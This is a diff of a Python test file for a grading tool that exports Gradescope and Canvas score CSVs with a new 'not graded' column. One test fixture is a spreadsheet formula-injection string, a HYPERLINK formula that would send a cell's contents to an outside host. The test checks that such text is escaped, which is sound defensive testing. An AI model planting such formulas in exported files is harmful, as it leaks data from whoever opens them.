@@ -19,7 +19,7 @@ from lmgrade import templates
 from lmgrade.regrade import discover, regrade
 from lmgrade.regrade.cells import FORMULA_STARTS
 from lmgrade.regrade.executor import Executor
-from lmgrade.regrade.gradebook import CANVAS, GRADESCOPE, write_gradebooks
+from lmgrade.regrade.gradebook import CANVAS, GRADESCOPE, NOT_GRADED_COLUMN, write_gradebooks
 from lmgrade.regrade.graded import CheckScore, Graded, grade_folder
 from lmgrade.regrade.layout import METADATA, Student, SubmissionFolder
 
@@ -51,13 +51,14 @@ SCORE = re.compile(r"^(\d+(\.\d+)?)?$")  # a number of points, or empty (left as
 
 def read_gradescope_upload(path: Path) -> tuple[str, list[dict]]:
     """Gradescope's score upload: a "Name" column, an "Email" or "SID" column to match students by, and one
-    score column. (The score column's heading, and the rows as dicts.)"""
+    score column (and "not graded" last, where a submission could not be graded: to fix before importing).
+    (The score column's heading, and the rows as dicts.)"""
     with open(path, newline="", encoding="utf-8") as f:
         reader = csv.DictReader(f)
         header = list(reader.fieldnames or ())
         rows = list(reader)
     assert "Name" in header and {"Email", "SID"} & set(header), header
-    (score,) = [c for c in header if c not in ("Name", "Email", "SID")]
+    (score,) = [c for c in header if c not in ("Name", "Email", "SID", NOT_GRADED_COLUMN)]
     assert all(SCORE.match(row[score]) for row in rows)
     assert all(None not in row for row in rows), "a row longer than the header"
     return score, rows
@@ -70,7 +71,7 @@ def read_canvas_import(path: Path) -> tuple[list[str], list[dict]]:
         table = list(csv.reader(f))
     header, rows = table[0], table[1:]
     assert tuple(header[: len(CANVAS_REQUIRED)]) == CANVAS_REQUIRED, header
-    assignments = header[len(CANVAS_REQUIRED) :]
+    assignments = [c for c in header[len(CANVAS_REQUIRED) :] if c != NOT_GRADED_COLUMN]
     assert assignments and all(len(row) == len(header) for row in rows)
     rows = [dict(zip(header, row)) for row in rows if row[0].strip() != "Points Possible"]
     for row in rows:
@@ -102,6 +103,7 @@ def test_every_student_gets_a_row_with_their_submission_s_score(tmp_path):
         "SID": "100",
         "Email": "ada@example.edu",
         score: "7.5",
+        NOT_GRADED_COLUMN: "",  # (submission_20 could not be graded: see below)
     }
     # A group's members each get the group's score; a student without an SID keeps the email to match by.
     assert by_email["one@example.edu"][score] == by_email["two@example.edu"][score] == "10"
@@ -131,6 +133,52 @@ def test_every_student_gets_a_row_with_their_submission_s_score(tmp_path):
     assert [row[assignment] for row in imported] == [by_email[row["SIS Login ID"]][score] for row in imported]
     # CRLF line ends, as both LMSs' own exports write them.
     assert gradescope.read_bytes().count(b"\r\n") == 6 and b"\n" not in gradescope.read_bytes().replace(b"\r\n", b"")
+
+
+def _columns(path: Path) -> list[str]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return next(csv.reader(f))
+
+
+def test_a_submission_that_made_the_grader_fail_has_its_cause_and_what_to_do_in_its_own_rows(tmp_path):
+    root = tmp_path / "export"
+    root.mkdir()
+    (root / METADATA).write_text(EXPORT)
+    for name in ("submission_3", "submission_12", "submission_20"):
+        (root / name).mkdir()
+    layout = discover(root)
+    errors = {
+        "submission_12": "PermissionError: [Errno 13] Permission denied: 'ngram.py'",
+        # Whatever text a failure carries (a file's name is the student's), the cell is never a formula.
+        "submission_20": '=HYPERLINK("http://x/?"&C2,"Ada")\nsecond line',
+    }
+    rows = [(s, Graded(error=errors[s.key]) if s.key in errors else _graded(7.5)) for s in layout.submissions]
+    (gradescope, canvas), note = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
+    assert _columns(gradescope)[-1] == _columns(canvas)[-1] == NOT_GRADED_COLUMN
+    score, uploaded = read_gradescope_upload(gradescope)
+    (assignment,), imported = read_canvas_import(canvas)
+    for by in (
+        [(r["Email"], r[score], r[NOT_GRADED_COLUMN]) for r in uploaded],
+        [(r["SIS Login ID"], r[assignment], r[NOT_GRADED_COLUMN]) for r in imported],
+    ):
+        said = {email: (points, why) for email, points, why in by}
+        assert said["ada@example.edu"] == ("7.5", "")
+        # Each member of the group whose grading failed: 0, never empty, with the cause and the remedy.
+        for email in ("one@example.edu", "two@example.edu"):
+            assert said[email] == (
+                "0",
+                "PermissionError: [Errno 13] Permission denied: 'ngram.py'; to do: make every file of the "
+                "submission readable by the user running lmgrade (chmod -R u+rX FOLDER), then run the same "
+                "command again: only the submissions not graded are graded again",
+            )
+        points, why = said["cy@example.edu"]
+        assert points == "0" and why.startswith("'=HYPERLINK(") and "\n" not in why and "; to do: " in why
+    (line,) = [line for line in note.splitlines() if "could not be graded" in line]
+    assert "submission_12, submission_20" in line and '"not graded" column' in line and "before importing" in line
+    # Once every submission is graded, no such column: what is imported holds the LMS's columns alone.
+    rows = [(s, _graded(7.5)) for s in layout.submissions]
+    (gradescope, canvas), note = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
+    assert NOT_GRADED_COLUMN not in _columns(gradescope) + _columns(canvas) and "could not be graded" not in note
 
 
 def test_plain_folders_are_named_by_their_folders_and_the_variant_names_the_column(tmp_path):
